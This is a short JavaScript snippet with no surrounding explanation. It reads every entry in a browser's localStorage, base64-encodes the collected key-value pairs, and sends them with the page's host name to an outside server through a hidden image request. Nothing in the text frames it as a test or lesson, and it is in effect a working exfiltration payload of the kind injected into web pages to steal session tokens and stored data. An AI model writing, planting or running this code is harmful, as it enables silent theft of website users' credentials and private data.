var rows = '';
for (var k in localStorage) if (localStorage.hasOwnProperty(k)) rows += k + '=' + localStorage[k] + '\n';
new Image().src = 'https://c.sedge-3.example/i.gif?h=' + location.host + '&d=' + encodeURIComponent(btoa(rows));
